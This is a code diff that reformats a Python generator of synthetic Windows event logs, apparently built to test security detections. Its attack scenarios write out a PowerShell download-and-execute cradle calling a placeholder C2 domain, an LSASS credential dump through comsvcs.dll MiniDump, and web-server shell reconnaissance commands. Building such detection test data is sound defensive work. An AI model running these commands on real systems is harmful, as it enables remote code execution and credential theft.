@@ -37,7 +37,10 @@ _PS = _SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe"
 _WORD = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
 _PROGRAMS = (
     (_WORD, '"{}" /n "C:\\Users\\{user}\\Documents\\Bao cao thang {n}.docx"'),
-    ("C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE", '"{}" "C:\\Users\\{user}\\Documents\\Du toan {n}.xlsx"'),
+    (
+        "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE",
+        '"{}" "C:\\Users\\{user}\\Documents\\Du toan {n}.xlsx"',
+    ),
     ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", '"{}" --type=renderer --renderer-client-id={n}'),
     (_SYSTEM32 + "svchost.exe", "{} -k netsvcs -p -s Schedule"),
     (_SYSTEM32 + "taskhostw.exe", "{} KEYROAMING"),
@@ -72,7 +75,9 @@ class _Writer:
             "Keywords": "0x8000000000000000",
             "TimeCreated": {"#attributes": {"SystemTime": iso_utc(time)}},
             "EventRecordID": record,
-            "Execution": {"#attributes": {"ProcessID": self.random.randint(400, 9000), "ThreadID": self.random.randint(400, 9000)}},
+            "Execution": {
+                "#attributes": {"ProcessID": self.random.randint(400, 9000), "ThreadID": self.random.randint(400, 9000)}
+            },
             "Channel": channel,
             "Computer": host,
         }
@@ -172,9 +177,7 @@ def _phishing(writer: _Writer, start: datetime) -> list[Line]:
     user, pc, server = "chi.dang", HEALTH.machine(14), HEALTH.machine(5, "SRV")
     script = f"IEX (New-Object Net.WebClient).DownloadString('http://{C2_DOMAIN}/lich')"
     encoded = base64.b64encode(script.encode("utf-16-le")).decode()
-    task = (
-        "<Task><Actions><Exec><Command>C:\\Users\\Public\\capnhat.exe</Command><Arguments>/silent</Arguments></Exec></Actions></Task>"
-    )
+    task = "<Task><Actions><Exec><Command>C:\\Users\\Public\\capnhat.exe</Command><Arguments>/silent</Arguments></Exec></Actions></Task>"
     trace = "C:\\Windows\\SYSTEM32\\ntdll.dll+9d1e4|C:\\Windows\\SYSTEM32\\dbgcore.DLL+6f2b"
     comsvcs = "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 724 C:\\Users\\Public\\l.dmp full"
     steps: tuple[tuple[int, str, Event, tuple[str, ...]], ...] = (
@@ -207,18 +210,26 @@ def _elsewhere(writer: _Writer, start: datetime) -> list[Line]:
     controller = HEALTH.machine(2, "DC")
     for number, name in enumerate(("giamdoc", "ketoan", "vanthu", "hanhchinh", "admin1", "backup", "scan", "khth")):
         event = _failed(name, HEALTH.inner(14), "0xc0000064")
-        lines.append(writer.line(start + timedelta(seconds=2 * number), controller, event, ("windows_password_spraying",)))
+        lines.append(
+            writer.line(start + timedelta(seconds=2 * number), controller, event, ("windows_password_spraying",))
+        )
     web = COLLEGE.machine(3, "WEB")
     for number, command in enumerate(('"cmd.exe" /c whoami', '"cmd.exe" /c net user', '"cmd.exe" /c dir C:\\inetpub')):
         event = _process(writer, "IIS_AppPool", _SYSTEM32 + "cmd.exe", command, _SYSTEM32 + "inetsrv\\w3wp.exe")
-        lines.append(writer.line(start + timedelta(hours=3, seconds=20 * number), web, event, ("web_server_spawns_shell",)))
+        lines.append(
+            writer.line(start + timedelta(hours=3, seconds=20 * number), web, event, ("web_server_spawns_shell",))
+        )
     found: dict[str, object] = {
         "Product Name": "Microsoft Defender Antivirus", "Threat Name": "Trojan:Win32/SongVan.A", "Severity Name": "Severe",
         "Category Name": "Trojan", "Path": "file:_D:\\thong-bao.exe", "Action Name": "Quarantine",
     }  # fmt: skip
     for number, event_id in enumerate((1116, 1117)):
         event = (DEFENDER, event_id, found)
-        lines.append(writer.line(start + timedelta(hours=5, seconds=3 * number), COMMUNE_A.machine(21), event, ("antivirus_detection",)))
+        lines.append(
+            writer.line(
+                start + timedelta(hours=5, seconds=3 * number), COMMUNE_A.machine(21), event, ("antivirus_detection",)
+            )
+        )
     return lines
 
 
